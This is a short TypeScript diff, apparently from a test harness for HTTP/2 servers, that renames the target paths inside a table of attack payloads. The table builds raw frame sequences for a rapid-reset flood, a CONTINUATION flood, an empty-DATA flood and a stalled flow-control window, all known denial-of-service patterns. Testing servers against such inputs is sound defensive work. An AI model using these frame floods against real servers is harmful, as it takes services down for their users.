@@ -27,7 +27,7 @@ const many = (count: number, part: (i: number) => Buffer): Buffer =>
 const attacks: Readonly<Record<string, Buffer>> = {
   "rapid-reset": many(5000, (i) =>
     Buffer.concat([
-      headers(2 * i + 1, get("/shop/items?id=x&bytes=1000")),
+      headers(2 * i + 1, get("/attacked/items?id=x&bytes=1000")),
       frame(Type.rstStream, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8])),
     ]),
   ),
@@ -43,7 +43,7 @@ const attacks: Readonly<Record<string, Buffer>> = {
     frame(Type.continuation, 4, 1, Buffer.alloc(16_000, 0xbe)),
   ]),
   "empty-data": Buffer.concat([headers(1, post(), 0), many(5000, () => frame(Type.data, 0, 1))]),
-  "stalled-window": many(20, (i) => headers(2 * i + 1, get("/shop/items?id=x&bytes=1000000"))),
+  "stalled-window": many(20, (i) => headers(2 * i + 1, get("/attacked/items?id=x&bytes=1000000"))),
 };
 
 function bombSeed(): Buffer {
